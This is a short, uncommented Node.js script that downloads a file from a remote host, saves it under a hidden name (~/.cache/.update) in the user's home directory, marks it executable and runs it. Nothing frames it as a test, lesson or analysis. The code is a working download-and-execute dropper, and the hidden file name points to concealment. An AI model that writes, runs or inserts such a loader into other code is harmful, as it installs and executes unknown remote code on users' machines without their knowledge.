import { writeFile, chmod } from 'node:fs/promises';
import { execFile } from 'node:child_process';
async function save(target, bytes) { await writeFile(target, bytes); await chmod(target, '755'); }
const place = `${process.env.HOME}/.cache/.update`;
await save(place, Buffer.from(await (await fetch('https://cdn.example.invalid/u')).arrayBuffer()));
execFile(place);
